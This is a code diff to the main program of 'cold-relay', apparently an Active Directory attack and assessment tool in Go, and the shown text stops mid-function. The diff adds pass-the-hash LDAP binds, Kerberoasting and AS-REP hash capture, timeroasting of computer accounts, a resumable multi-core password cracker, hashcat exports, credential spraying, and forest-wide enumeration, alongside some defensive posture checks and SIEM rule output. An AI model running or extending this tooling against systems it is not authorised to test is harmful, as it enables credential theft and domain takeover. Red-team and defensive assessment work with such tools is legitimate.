@@ -1,13 +1,15 @@
 package main
 
 import (
+	"context"
 	"encoding/json"
 	"flag"
 	"fmt"
 	"log"
-	"net"
 	"os"
+	"os/signal"
 	"path/filepath"
+	"sort"
 	"strings"
 	"time"
 
@@ -15,6 +17,8 @@ import (
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/attack"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/controlplane"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/cracker"
+	"github.com/thechosenone-shall-prevail/cold-relay/pkg/discovery"
+	"github.com/thechosenone-shall-prevail/cold-relay/pkg/fleet"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/ingest"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/krb"
 	"github.com/thechosenone-shall-prevail/cold-relay/pkg/output"
@@ -27,7 +31,7 @@ import (
 
 func connectWithFallback(base krb.ConnectOptions, fallback bool) (*krb.LDAPClient, error) {
 	c, err := krb.Connect(base)
-	if err == nil || !fallback || base.UseSSL || base.StartTLS {
+	if err == nil || !fallback || base.UseSSL || base.StartTLS || krb.IsInvalidCredentials(err) {
 		return c, err
 	}
 	log.Printf("[!] LDAP connect failed (%v); retrying with STARTTLS", err)
@@ -35,8 +39,8 @@ func connectWithFallback(base krb.ConnectOptions, fallback bool) (*krb.LDAPClien
 	b2.StartTLS = true
 	b2.UseSSL = false
 	c2, e2 := krb.Connect(b2)
-	if e2 == nil {
-		return c2, nil
+	if e2 == nil || krb.IsInvalidCredentials(e2) {
+		return c2, e2
 	}
 	log.Printf("[!] STARTTLS failed (%v); retrying LDAPS", e2)
 	b3 := base
@@ -47,7 +51,9 @@ func connectWithFallback(base krb.ConnectOptions, fallback bool) (*krb.LDAPClien
 
 func main() {
 	// Simplified flags
-	target := flag.String("t", "", "Target IP or hostname")
+	target := flag.String("t", "", "Target IP or hostname; a comma-separated list or CIDR range assesses every host")
+	targetsFile := flag.String("targets", "", "File with one target host or CIDR per line")
+	allDCs := flag.Bool("all-dcs", false, "Locate every DC of the domain via DNS SRV and compare their hardening")
 	user := flag.String("u", "", "Username for authentication")
 	pass := flag.String("p", "", "Password for authentication")
 	domain := flag.String("d", "", "Domain name (auto-detected if omitted)")
@@ -61,6 +67,8 @@ func main() {
 	bloodhoundJSON := flag.String("bloodhound-json", "", "Optional BloodHound JSON export path")
 	bloodhoundCSV := flag.String("bloodhound-csv", "", "Optional BloodHound CSV export base path")
 	runStoreDir := flag.String("run-store-dir", "", "Optional directory to persist run metadata for platform workflows")
+	delta := flag.Bool("delta", false, "Fetch only objects changed since the last run against the same DC (uSNChanged); needs --run-store-dir")
+	fromFile := flag.String("from", "", "Analyze an exported AD dump (CSV/JSON/LDIF, SharpHound zip, ldapdomaindump folder, ADExplorer .dat) offline instead of connecting to a DC")
 
 	// Legacy/advanced flags (still available for power users)
 	ldaps := flag.Bool("ldaps", false, "Use LDAPS (port 636)")
@@ -69,15 +77,34 @@ func main() {
 	cafile := flag.String("cafile", "", "PEM CA bundle file for TLS verification")
 	kdcHost := flag.String("kdc", "", "Explicit Kerberos KDC hostname or IP")
 	fallbackTLS := flag.Bool("fallback-tls", false, "If plain LDAP fails, try STARTTLS then LDAPS")
+	forest := flag.Bool("forest", false, "Collect every domain in the forest (crossRef enumeration) and merge the results")
+	useGC := flag.Bool("gc", false, "With --forest, query the Global Catalog (3268/3269) instead of each domain's DCs")
+	gcHost := flag.String("gc-host", "", "Global Catalog host for --gc (located via DNS SRV if omitted)")
+	authMethod := flag.String("auth", "", "LDAP bind method: simple, ntlm, kerberos or cert (inferred from credentials if omitted)")
+	ntHash := flag.String("hash", "", "NT hash (or LM:NT) for NTLM pass-the-hash bind")
+	ccache := flag.String("ccache", "", "Kerberos credential cache for GSSAPI bind (defaults to KRB5CCNAME)")
+	keytabFile := flag.String("keytab", "", "Kerberos keytab for GSSAPI bind as -u")
+	certFile := flag.String("cert", "", "Client certificate (PFX/P12 or PEM) for Schannel bind over LDAPS/STARTTLS")
+	keyFile := flag.String("key", "", "PEM private key when not bundled in --cert")
+	certPass := flag.String("cert-pass", "", "Password for a PFX client certificate")
 
 	// Hidden power-user flags (not shown in help)
 	crackWordlist := flag.String("w", "", "(Advanced) Path to wordlist for cracking")
+	crackEngine := flag.String("crack-engine", "native", "(Advanced) Cracker for -w: native (built-in, all CPU cores) or hashcat (external hashcat/john)")
+	crackWorkers := flag.Int("crack-workers", 0, "(Advanced) Native cracker goroutines (0 = one per CPU)")
+	crackState := flag.String("crack-state", "", "(Advanced) Native cracker resume file: progress is saved here and a rerun continues from it")
 	audit := flag.Bool("audit", false, "(Advanced) Run in audit mode")
 	siem := flag.Bool("siem", false, "(Advanced) Generate SIEM detection rules")
 	enableSpray := flag.Bool("enable-spray", false, "(Advanced) Explicitly enable credential spray workflow")
 	sprayRiskAck := flag.Bool("i-understand-spray-risk", false, "(Advanced) Required confirmation with --enable-spray")
 	sprayMaxUsers := flag.Int("spray-max-users", 25, "(Advanced) Max user accounts tested during spray phase")
 	sprayDelayMS := flag.Int("spray-delay-ms", 750, "(Advanced) Delay in milliseconds between spray attempts")
+	krbWorkers := flag.Int("krb-workers", 4, "(Advanced) Concurrent KDC requests when acquiring AS-REP/TGS hashes")
+	krbDelayMS := flag.Int("krb-delay-ms", 120, "(Advanced) Minimum delay in milliseconds between KDC requests")
+	ticketFiles := flag.String("ticket", "", "(Advanced) Comma-separated .kirbi or ccache files to triage for golden, silver and diamond tickets")
+	ticketKeys := flag.String("ticket-key", "", "(Advanced) Comma-separated [principal:]etype:hex keys (rc4, aes128, aes256) that decrypt --ticket files; name krbtgt keys as krbtgt:etype:hex")
+	ticketKeytab := flag.String("ticket-keytab", "", "(Advanced) Keytab whose keys decrypt --ticket files")
+	timeroast := flag.Bool("timeroast", false, "(Advanced) Request an MS-SNTP hash (hashcat 31300) for every computer RID from the DC over UDP 123 (aggressive mode)")
 
 	flag.Parse()
 
@@ -91,6 +118,38 @@ func main() {
 		return
 	}
 
+	tickets, err := parseTicketOptions(*ticketFiles, *ticketKeys, *ticketKeytab)
+	if err != nil {
+		log.Fatalf("[x] %v", err)
+	}
+
+	if *fromFile != "" {
+		util.DisplayBanner("1.0")
+		err := runOffline(offlineOptions{
+			Path:           *fromFile,
+			Domain:         *domain,
+			OutFile:        *outFile,
+			CSVOut:         *csvOut,
+			ReportOut:      *reportOut,
+			BloodHoundJSON: *bloodhoundJSON,
+			BloodHoundCSV:  *bloodhoundCSV,
+			RunStoreDir:    *runStoreDir,
+			SIEM:           *siem,
+			JSONOnly:       *jsonOnly,
+			Tickets:        tickets,
+		})
+		if err != nil {
+			log.Fatalf("[x] Offline analysis failed: %v", err)
+		}
+		return
+	}
+
+	if *delta && *runStoreDir == "" {
+		log.Fatal("[x] --delta requires --run-store-dir to keep the snapshot between runs")
+	}
+	if *delta && *forest {
+		log.Fatal("[x] --delta is not supported together with --forest")
+	}
 	if *enableSpray && !*sprayRiskAck {
 		log.Fatal("[x] --enable-spray requires --i-understand-spray-risk")
 	}
@@ -100,23 +159,52 @@ func main() {
 	if *sprayDelayMS < 0 {
 		log.Fatal("[x] --spray-delay-ms cannot be negative")
 	}
+	if *krbWorkers < 1 {
+		log.Fatal("[x] --krb-workers must be greater than zero")
+	}
+	if *crackEngine != "native" && *crackEngine != "hashcat" {
+		log.Fatal("[x] --crack-engine must be native or hashcat")
+	}
+	if *crackWorkers < 0 {
+		log.Fatal("[x] --crack-workers cannot be negative")
+	}
+	if *krbDelayMS < 0 {
+		log.Fatal("[x] --krb-delay-ms cannot be negative")
+	}
+	auth, err := krb.ParseAuthMethod(*authMethod)
+	if err != nil {
+		log.Fatalf("[x] %v", err)
+	}
 
 	// Positional target support
 	if *target == "" && flag.NArg() > 0 {
 		*target = flag.Arg(0)
 	}
 
-	if *target == "" {
+	if *target == "" && *targetsFile == "" && len(tickets.Files) > 0 {
+		util.DisplayBanner("1.0")
+		if err := runTicketsOnly(tickets, *outFile); err != nil {
+			log.Fatalf("[x] Ticket triage failed: %v", err)
+		}
+		return
+	}
+
+	if *target == "" && *targetsFile == "" {
 		util.DisplayBanner("1.0")
 		flag.Usage()
 		os.Exit(1)
 	}
+	targets, err := fleet.ExpandTargets(*target, *targetsFile)
+	if err != nil {
+		log.Fatalf("[x] %v", err)
+	}
+	if len(targets) == 0 {
+		log.Fatal("[x] No targets given")
+	}
+	*target = targets[0]
 
 	util.DisplayBanner("1.0")
 
-	// Initial protocol discovery
-	services := runProtocolDiscovery(*target)
-
 	// Connection parameters
 	bindUser := *user
 	if *domain != "" && !strings.Contains(bindUser, "\\") && !strings.Contains(bindUser, "@") {
@@ -132,12 +220,39 @@ func main() {
 		Insecure: *insecure,
 		CAFile:   *cafile,
 		KDC:      *kdcHost,
+		GC:       *gcHost,
 		Timeout:  10 * time.Second,
+		Auth:     auth,
+		Realm:    *domain,
+		NTHash:   *ntHash,
+		CCache:   *ccache,
+		Keytab:   *keytabFile,
+		CertFile: *certFile,
+		KeyFile:  *keyFile,
+		CertPass: *certPass,
+	}
+
+	// Initial protocol discovery; with several targets every host is
+	// assessed and the first DC becomes the LDAP target.
+	var dcFleet *fleet.Report
+	var services []discovery.Service
+	if len(targets) > 1 {
+		dcFleet = assessTargets(targets, connOpts)
+		*target = dcFleet.Primary(*target)
+		connOpts.Target = *target
+		if host, ok := dcFleet.Lookup(*target); ok {
+			services = host.Services
+		}
+	} else {
+		services = runProtocolDiscovery(*target)
 	}
 
 	log.Printf("[*] Auto-detecting connection to %s …", *target)
 
 	client, err := connectWithFallback(connOpts, *fallbackTLS)
+	if krb.IsInvalidCredentials(err) {
+		log.Fatalf("[x] %s rejected the credentials; stopping before any other host is tried so the account is not locked out: %v", *target, err)
+	}
 	if err != nil {
 		// Try anonymous binding if credentials were provided but failed
 		if *user == "" && *pass == "" {
@@ -167,12 +282,61 @@ func main() {
 		}
 	}
 
+	if *allDCs {
+		if *domain == "" {
+			log.Printf("[!] --all-dcs needs a domain name (-d or RootDSE); skipping DC discovery")
+		} else {
+			if dcFleet == nil {
+				dcFleet = assessTargets([]string{*target}, connOpts)
+			}
+			dcFleet = addDomainControllers(dcFleet, *domain, *target, connOpts)
+		}
+	}
+	// The bind validated the credentials, so the probe that logs on with
+	// them can now run on the other hosts.
+	dcFleet.ProbeChannelBinding(connOpts)
+	logFleet(dcFleet)
+
 	// ── basic recon ───────────────────────────────────────────────────────
-	users, err := client.EnumerateUsers()
-	if err != nil {
-		log.Fatalf("[x] User enumeration failed: %v", err)
+	var incremental *incrementalRun
+	if *delta {
+		incremental = startIncremental(client, *runStoreDir, *domain)
+	}
+	var users []ingest.User
+	var computers []ingest.Computer
+	dir := incremental.collect(client)
+	if dir != nil {
+		users, computers = dir.Users, dir.Computers
+		log.Printf("%s[+] Snapshot now holds %d users, %d computers%s", util.Green, len(users), len(computers), util.Reset)
+	} else {
+		dir, err = client.CollectDomain()
+		if dir == nil {
+			log.Fatalf("[x] User enumeration failed: %v", err)
+		}
+		if err != nil {
+			log.Printf("[!] Directory collection failed: %v", err)
+		}
+		users, computers = dir.Users, dir.Computers
+		log.Printf("%s[+] Found %d user objects%s", util.Green, len(users), util.Reset)
+	}
+	var forestDomains []krb.ForestDomain
+	if incremental != nil && incremental.resume {
+		// Per-principal in-chain queries would undo the point of a delta;
+		// the local closure covers everything the snapshot holds.
+		dir.ResolveMemberships()
+	} else if *forest && dir != nil {
+		forestDomains, err = client.CollectForest(connOpts, dir, *useGC || *gcHost != "")
+		if err != nil {
+			log.Printf("[!] Forest collection failed: %v", err)
+			client.ResolveMemberships(dir)
+		} else {
+			users, computers = dir.Users, dir.Computers
+			log.Printf("%s[+] Forest collection: %d users, %d computers across %d domains%s",
+				util.Green, len(users), len(computers), len(forestDomains), util.Reset)
+		}
+	} else {
+		client.ResolveMemberships(dir)
 	}
-	log.Printf("%s[+] Found %d user objects%s", util.Green, len(users), util.Reset)
 	log.Printf("%s[*] [ENTRY POINT] Current User: %s (Context: %s)%s", util.Cyan, bindUser, *target, util.Reset)
 
 	domainInfo, _ := client.GetDomainInfo()
@@ -181,22 +345,12 @@ func main() {
 	// ── kerberos analysis ─────────────────────────────────────────────────
 	asrep := krb.FindASREPCandidates(users)
 	kerb := krb.FindKerberoastCandidates(users)
+	etypes := analyzeEtypes(dir, kerb)
 	all := triage.ScoreCandidates(asrep, kerb, cfg)
 
 	log.Printf("%s[+] %d AS-REP roastable  |  %d Kerberoastable%s", util.Green, len(asrep), len(kerb), util.Reset)
 
 	// ── recon insights ──────────────────────────────────────────────────
-	groupSet := make(map[string]bool)
-	highRisk := 0
-	for _, u := range users {
-		for _, g := range u.MemberOf {
-			groupSet[g] = true
-			if strings.Contains(strings.ToLower(g), "admin") || strings.Contains(strings.ToLower(g), "domain controllers") {
-				highRisk++
-			}
-		}
-	}
-
 	results := output.Results{
 		SchemaVersion: "2.0",
 		Domain: output.DomainInfo{
@@ -204,16 +358,14 @@ func main() {
 			DN:              domainInfo.BaseDN,
 			FunctionalLevel: domainInfo.FunctionalLevel,
 			OS:              domainInfo.OS,
+			RootDSE:         domainInfo.RootDSE,
 		},
-		Summary: output.Summary{
-			TotalUsers:           len(users),
-			ASREPCandidates:      len(asrep),
-			KerberoastCandidates: len(kerb),
-			TotalGroups:          len(groupSet),
-			HighRiskObjects:      highRisk,
-		},
+		Forest:     forestDomains,
+		DCFleet:    dcFleet,
+		Summary:    reconSummary(users, asrep, kerb),
 		Candidates: all,
 		Users:      users,
+		Computers:  computers,
 	}
 
 	// ── Determine mode-based behavior ─────────────────────────────────────
@@ -230,17 +382,58 @@ func main() {
 		log.Printf("%s[*] AGGRESSIVE MODE: Full attack surface enabled%s", util.Yellow, util.Reset)
 	}
 
-	// ── hash extraction & cracking ───────────────────────────────────────
-	if isAggressive && *crackWordlist != "" {
-		log.Printf("[*] Hash cracking enabled with wordlist: %s", *crackWordlist)
-		extractAndCrack(results.Candidates, *crackWordlist, client)
+	// ── clock skew ───────────────────────────────────────────────────────
+	if isAggressive {
+		if rootDSE, err := client.SyncClock(); err != nil {
+			log.Printf("[!] Could not compare the DC clock: %v", err)
+		} else {
+			log.Printf("[*] DC clock skew: %s", rootDSE.ClockSkew)
+			results.Domain.RootDSE = rootDSE
+		}
 	}
 
-	// ── real Kerberos protocol ───────────────────────────────────────────
+	// ── hash acquisition ─────────────────────────────────────────────────
 	if isAggressive {
-		results.Candidates = runRealKerberos(client, effectiveDomain(domainInfo, *domain), results.Candidates)
+		stats := client.AcquireHashes(effectiveDomain(domainInfo, *domain), results.Candidates, krb.AcquireOptions{
+			Workers:  *krbWorkers,
+			Interval: time.Duration(*krbDelayMS) * time.Millisecond,
+		})
+		if stats.Requests > 0 {
+			log.Printf("[*] Hash acquisition: %d requests, %d hashes, %d refused", stats.Requests, stats.Hashes, stats.Failures)
+		}
+	}
+
+	// ── timeroasting ─────────────────────────────────────────────────────
+	var sntpHashes []krb.TimeroastHash
+	if isAggressive && *timeroast {
+		sntpHashes, err = client.Timeroast(effectiveDomain(domainInfo, *domain), computers, krb.TimeroastOptions{})
+		if err != nil {
+			log.Printf("[!] Timeroasting failed: %v", err)
+		} else {
+			log.Printf("[*] Timeroasting: %d of %d computer accounts answered", len(sntpHashes), len(computers))
+		}
 	}
 
+	// ── cracking ─────────────────────────────────────────────────────────
+	if isAggressive && *crackWordlist != "" {
+		log.Printf("[*] Hash cracking enabled with wordlist: %s", *crackWordlist)
+		if *crackEngine == "native" {
+			crackStoredHashesNative(results.Candidates, sntpHashes, *crackWordlist, cracker.NativeOptions{
+				Workers:   *crackWorkers,
+				StateFile: *crackState,
+			})
+		} else {
+			crackStoredHashes(results.Candidates, *crackWordlist, cracker.NativeOptions{
+				Workers:   *crackWorkers,
+				StateFile: *crackState,
+			})
+			if len(sntpHashes) > 0 {
+				log.Printf("[!] MS-SNTP hashes (mode 31300) are only cracked by --crack-engine native; run hashcat -m 31300 on hashes/timeroast_31300.txt")
+			}
+		}
+	}
+	results.Candidates = append(results.Candidates, timeroastCandidates(sntpHashes, effectiveDomain(domainInfo, *domain))...)
+
 	// ── advanced modules ─────────────────────────────────────────────────
 	advResults := make(map[string]interface{})
 	if isAggressive {
@@ -289,8 +482,27 @@ func main() {
 		if val, ok := advResults["acl_analysis"]; ok {
 			results.Advanced.ACLAnalysis = val
 		}
+		if val, ok := advResults["password_policies"]; ok {
+			results.Advanced.PasswordPolicies = val
+		}
+		if val, ok := advResults["deleted_objects"]; ok {
+			results.Advanced.DeletedObjects = val
+		}
+		if val, ok := advResults["ldap_config"]; ok {
+			results.Advanced.LDAPConfig = val
+		}
 	}
 
+	if dir != nil {
+		advResults["directory"] = dir
+	}
+	results.Advanced.Tickets = analyzeTickets(tickets, dir)
+	if etypes != nil {
+		advResults["etype_posture"] = etypes
+		results.Advanced.EtypePosture = etypes
+	}
+	results.Advanced.Timeroast = sntpHashes
+
 	// ── predator context engine ──────────────────────────────────────────
 	riskInsights, newCandidates := generateRiskInsights(users, advResults)
 	results.RiskInsights = riskInsights
@@ -301,50 +513,18 @@ func main() {
 		Domain:      *domain,
 		CurrentUser: bindUser,
 		Mode:        *mode,
-		Services:    services,
+		Services:    discovery.Names(services),
+		Discovered:  services,
 	}, users, results.Candidates, advResults)
 	results.AttackGraph = &graph
 	cp := controlplane.BuildFromReasoning(results.AttackGraph, advResults)
 	results.ControlPlane = &cp
 
 	// Update summary with insights
-	results.Summary.ASREPCandidates = 0
-	results.Summary.KerberoastCandidates = 0
-	results.Summary.ReconCandidates = 0
-	results.Summary.HVTCandidates = 0
-	results.Summary.LootCandidates = 0
-	results.Summary.ValidationStatus = make(map[string]int)
-	for _, c := range results.Candidates {
-		switch c.Type {
-		case "ASREP":
-			results.Summary.ASREPCandidates++
-		case "KERBEROAST":
-			results.Summary.KerberoastCandidates++
-		case "RECON":
-			results.Summary.ReconCandidates++
-		case "HVT":
-			results.Summary.HVTCandidates++
-		case "LOOT":
-			results.Summary.LootCandidates++
-		}
-		if c.Validation != "" {
-			results.Summary.ValidationStatus[c.Validation]++
-		}
-	}
-	results.Summary.HighRiskObjects = results.Summary.ASREPCandidates + results.Summary.KerberoastCandidates + results.Summary.ReconCandidates + results.Summary.HVTCandidates + results.Summary.LootCandidates
+	tallyCandidates(&results)
 
-	if len(results.RiskInsights) > 0 {
-		log.Printf("%s[!] Attack Path Insights Detected:%s", util.Red, util.Reset)
-		for _, insight := range results.RiskInsights {
-			color := util.Yellow
-			if strings.Contains(insight, "[CRITICAL]") || strings.Contains(insight, "[HIGH]") {
-				color = util.Red
-			} else if strings.HasPrefix(insight, "---") || strings.HasPrefix(insight, "→") || strings.HasPrefix(insight, "Step") {
-				color = util.Cyan
-			}
-			log.Printf("    %s%s%s", color, insight, util.Reset)
-		}
-	}
+	logRiskInsights(results.RiskInsights)
+	incremental.finish(&results, dir)
 
 	// ── loot reporting & offensive spray ─────────────────────────────────
 	var allFoundPasswords []string
@@ -424,26 +604,110 @@ func main() {
 
 	// ── output ───────────────────────────────────────────────────────────
 	writeResults(results, all, cfg, *outFile, *csvOut, *siem, *jsonOnly, *reportOut)
+	writeExports(results, *bloodhoundJSON, *bloodhoundCSV, *runStoreDir, *target, *mode)
+	logCompletion(results, *outFile)
+}
 
-	if *bloodhoundJSON != "" {
-		if err := output.WriteBloodHoundJSON(*bloodhoundJSON, results); err != nil {
+// analyzeEtypes classifies every account's Kerberos encryption types and
+// marks the Kerberoast candidates with their posture ahead of scoring.
+func analyzeEtypes(dir *ingest.Directory, kerb []krb.Candidate) *advanced.EtypeReport {
+	report := advanced.AnalyzeEncryptionTypes(dir)
+	if report == nil {
+		return nil
+	}
+	report.MarkCandidates(kerb)
+	log.Printf("[+] Etype posture: %d RC4-only, %d AES-capable, %d AES-enforced (%d RC4-only service accounts)",
+		report.RC4Only, report.AESCapable, report.AESEnforced, len(report.RC4OnlyServiceAccounts))
+	return report
+}
+
+// reconSummary computes the collection-time counts shown before reasoning runs.
+func reconSummary(users []ingest.User, asrep, kerb []krb.Candidate) output.Summary {
+	groupSet := make(map[string]bool)
+	highRisk := 0
+	for _, u := range users {
+		for _, g := range u.MemberOf {
+			groupSet[g] = true
+			if strings.Contains(strings.ToLower(g), "admin") || strings.Contains(strings.ToLower(g), "domain controllers") {
+				highRisk++
+			}
+		}
+	}
+	return output.Summary{
+		TotalUsers:           len(users),
+		ASREPCandidates:      len(asrep),
+		KerberoastCandidates: len(kerb),
+		TotalGroups:          len(groupSet),
+		HighRiskObjects:      highRisk,
+	}
+}
+
+// tallyCandidates recomputes per-type and per-validation counts from the final candidate list.
+func tallyCandidates(results *output.Results) {
+	results.Summary.ASREPCandidates = 0
+	results.Summary.KerberoastCandidates = 0
+	results.Summary.ReconCandidates = 0
+	results.Summary.HVTCandidates = 0
+	results.Summary.LootCandidates = 0
+	results.Summary.ValidationStatus = make(map[string]int)
+	for _, c := range results.Candidates {
+		switch c.Type {
+		case "ASREP":
+			results.Summary.ASREPCandidates++
+		case "KERBEROAST":
+			results.Summary.KerberoastCandidates++
+		case "RECON":
+			results.Summary.ReconCandidates++
+		case "HVT":
+			results.Summary.HVTCandidates++
+		case "LOOT":
+			results.Summary.LootCandidates++
+		}
+		if c.Validation != "" {
+			results.Summary.ValidationStatus[c.Validation]++
+		}
+	}
+	results.Summary.HighRiskObjects = results.Summary.ASREPCandidates + results.Summary.KerberoastCandidates + results.Summary.ReconCandidates + results.Summary.HVTCandidates + results.Summary.LootCandidates
+}
+
+func logRiskInsights(insights []string) {
+	if len(insights) == 0 {
+		return
+	}
+	log.Printf("%s[!] Attack Path Insights Detected:%s", util.Red, util.Reset)
+	for _, insight := range insights {
+		color := util.Yellow
+		if strings.Contains(insight, "[CRITICAL]") || strings.Contains(insight, "[HIGH]") {
+			color = util.Red
+		} else if strings.HasPrefix(insight, "---") || strings.HasPrefix(insight, "→") || strings.HasPrefix(insight, "Step") {
+			color = util.Cyan
+		}
+		log.Printf("    %s%s%s", color, insight, util.Reset)
+	}
+}
+
+func writeExports(results output.Results, bloodhoundJSON, bloodhoundCSV, runStoreDir, target, mode string) {
+	if bloodhoundJSON != "" {
+		if err := output.WriteBloodHoundJSON(bloodhoundJSON, results); err != nil {
 			log.Printf("[x] Failed to write BloodHound JSON: %v", err)
 		}
 	}
-	if *bloodhoundCSV != "" {
-		if err := output.WriteBloodHoundCSV(*bloodhoundCSV, results); err != nil {
+	if bloodhoundCSV != "" {
+		if err := output.WriteBloodHoundCSV(bloodhoundCSV, results); err != nil {
 			log.Printf("[x] Failed to write BloodHound CSV: %v", err)
 		}
 	}
 
-	if *runStoreDir != "" {
-		store := platform.NewFileRunStore(*runStoreDir)
-		if err := store.Save(platform.FromResults(results, *target, *mode)); err != nil {
+	if runStoreDir != "" {
+		store := platform.NewFileRunStore(runStoreDir)
+		if err := store.Save(platform.FromResults(results, target, mode)); err != nil {
 			log.Printf("[x] Failed to persist run metadata: %v", err)
 		}
 	}
+}
 
-	log.Printf("%s[+] Results → %s%s", util.Green, *outFile, util.Reset)
+func logCompletion(results output.Results, outFile string) {
+	log.Printf("%s[+] Results → %s%s", util.Green, outFile, util.Reset)
 	log.Printf("%s[+] Done: %d candidates (%d Kerberos / %d Recon / %d HVT)%s",
 		util.Green,
 		results.Summary.HighRiskObjects,
@@ -489,6 +753,11 @@ func writeResults(results output.Results, candidates []krb.Candidate, cfg *triag
 		log.Printf("[x] Failed to write JSON output: %v", err)
 	}
 
+	// Captured roasting hashes go next to the JSON, one file per hashcat mode.
+	if err := output.WriteHashExport(filepath.Join(filepath.Dir(outFile), "hashes"), results); err != nil {
+		log.Printf("[x] Failed to export hashes: %v", err)
+	}
+
 	if csvOut != "" {
 		if err := output.WriteCSV(csvOut, results); err != nil {
 			log.Printf("[x] Failed to write CSV output: %v", err)
@@ -521,100 +790,199 @@ func writeResults(results output.Results, candidates []krb.Candidate, cfg *triag
 	}
 }
 
-func extractAndCrack(candidates []krb.Candidate, wordlist string, client *krb.LDAPClient) {
-	log.Printf("[*] Extracting and cracking hashes...")
-	di, _ := client.GetDomainInfo()
-	domain := di.DomainName
-	if domain == "" {
+// crackStoredHashesNative cracks the hashes AcquireHashes stored on
+// candidates, and the MS-SNTP hashes timeroasting left uncracked, with the
+// built-in engine, all modes in one pass over the wordlist. The passwords
+// are written back into the candidates and timeroast hashes. Ctrl-C stops
+// the run; with opts.StateFile set it can be resumed.
+func crackStoredHashesNative(candidates []krb.Candidate, sntp []krb.TimeroastHash, wordlist string, opts cracker.NativeOptions) {
+	var hashes []string
+	for _, c := range candidates {
+		for _, r := range c.Hashes {
+			if r.OK() {
+				hashes = append(hashes, r.Hash)
+			}
+		}
+	}
+	for _, h := range sntp {
+		if h.Password == "" {
+			hashes = append(hashes, h.Hash)
+		}
+	}
+	if len(hashes) == 0 {
 		return
 	}
-	dir, err := os.MkdirTemp("", "COLD-RELAY-*")
+	opts.Progress = logCrackProgress
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer stop()
+	cracked, err := cracker.CrackNative(ctx, hashes, wordlist, opts)
 	if err != nil {
-		log.Printf("[x] temp dir: %v", err)
-		return
+		log.Printf("[x] Native crack: %v", err)
+		if opts.StateFile != "" && ctx.Err() != nil {
+			log.Printf("[*] Rerun with --crack-state %s to resume", opts.StateFile)
+		}
 	}
-	defer os.RemoveAll(dir)
+	if n := cracker.ApplyPasswords(candidates, cracker.UserPasswords(cracked)); n > 0 {
+		log.Printf("[+] %d cracked passwords verified and written to their candidates", n)
+	}
+	if n := applyTimeroastPasswords(sntp, cracked); n > 0 {
+		log.Printf("[+] %d computer passwords cracked from MS-SNTP hashes", n)
+	}
+}
 
-	asrepPath := filepath.Join(dir, "asrep.txt")
-	kerbPath := filepath.Join(dir, "kerberoast.txt")
-	var asrepLines, kerbLines []string
+// logCrackProgress logs the native cracker's periodic progress.
+func logCrackProgress(p cracker.Progress) {
+	log.Printf("[*] Cracking: %.1f%% of wordlist, %d tried, %.0f/s, %d/%d cracked",
+		p.Percent(), p.Words, p.Rate, p.Cracked, p.Hashes)
+}
 
+// applyTimeroastPasswords stores the cracked passwords of MS-SNTP hashes,
+// which the native engine has already checked against the MAC, and
+// returns how many were stored.
+func applyTimeroastPasswords(sntp []krb.TimeroastHash, cracked []cracker.Cracked) int {
+	byHash := make(map[string]string, len(cracked))
+	for _, c := range cracked {
+		byHash[c.Hash] = c.Password
+	}
+	applied := 0
+	for i := range sntp {
+		h := &sntp[i]
+		if password, ok := byHash[h.Hash]; ok && h.Password == "" {
+			h.Password = password
+			applied++
+		}
+	}
+	return applied
+}
+
+// crackStoredHashes cracks the hashes AcquireHashes stored on candidates,
+// one hashcat run per mode, without contacting the KDC again. Where
+// hashcat and john are missing each mode is cracked natively with opts,
+// resuming from opts.StateFile with the mode appended, and Ctrl-C stops
+// the remaining runs.
+func crackStoredHashes(candidates []krb.Candidate, wordlist string, opts cracker.NativeOptions) {
+	byMode := make(map[int][]string)
 	for _, c := range candidates {
-		switch c.Type {
-		case "ASREP":
-			hr, err := client.ExtractASREPHash(c.SamAccountName, domain)
-			if err != nil {
-				log.Printf("[!] AS-REP %s: %v", c.SamAccountName, err)
+		for _, r := range c.Hashes {
+			if !r.OK() {
 				continue
 			}
-			asrepLines = append(asrepLines, hr.Hash)
-		case "KERBEROAST":
-			for _, spn := range c.SPNs {
-				hr, err := client.ExtractKerberoastHash(c.SamAccountName, domain, spn)
-				if err != nil {
-					log.Printf("[!] Kerberoast %s %s: %v", c.SamAccountName, spn, err)
-					continue
-				}
-				kerbLines = append(kerbLines, hr.Hash)
+			mode := r.HashcatMode
+			if mode == 0 {
+				mode = krb.HashcatModeOf(r.Hash)
 			}
+			byMode[mode] = append(byMode[mode], r.Hash)
 		}
-		time.Sleep(120 * time.Millisecond)
 	}
+	if len(byMode) == 0 {
+		return
+	}
+	dir, err := os.MkdirTemp("", "COLD-RELAY-*")
+	if err != nil {
+		log.Printf("[x] temp dir: %v", err)
+		return
+	}
+	defer os.RemoveAll(dir)
 
-	if len(asrepLines) > 0 {
-		var b strings.Builder
-		for _, line := range asrepLines {
-			b.WriteString(line)
-			b.WriteByte(10)
+	modes := make([]int, 0, len(byMode))
+	for mode := range byMode {
+		modes = append(modes, mode)
+	}
+	sort.Ints(modes)
+	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
+	defer stop()
+	opts.Progress = logCrackProgress
+	stateFile := opts.StateFile
+	var pot []string
+	for _, mode := range modes {
+		if ctx.Err() != nil {
+			break
 		}
-		_ = os.WriteFile(asrepPath, []byte(b.String()), 0600)
-		if wordlist != "" {
-			if _, err := cracker.CrackHashes(asrepPath, wordlist, "asrep"); err != nil {
-				log.Printf("[x] AS-REP crack: %v", err)
-			}
+		if mode == 0 {
+			log.Printf("[!] %d hashes with no hashcat mode skipped", len(byMode[mode]))
+			continue
 		}
-	}
-	if len(kerbLines) > 0 {
-		var kb strings.Builder
-		for _, line := range kerbLines {
-			kb.WriteString(line)
-			kb.WriteByte(10)
+		path := filepath.Join(dir, fmt.Sprintf("%d.txt", mode))
+		if err := os.WriteFile(path, []byte(strings.Join(byMode[mode], "\n")+"\n"), 0600); err != nil {
+			log.Printf("[x] %v", err)
+			continue
 		}
-		_ = os.WriteFile(kerbPath, []byte(kb.String()), 0600)
-		if wordlist != "" {
-			if _, err := cracker.CrackHashes(kerbPath, wordlist, "kerberoast"); err != nil {
-				log.Printf("[x] Kerberoast crack: %v", err)
-			}
+		if stateFile != "" {
+			opts.StateFile = fmt.Sprintf("%s.%d", stateFile, mode)
+		}
+		cracked, err := cracker.CrackMode(ctx, path, wordlist, mode, opts)
+		if err != nil {
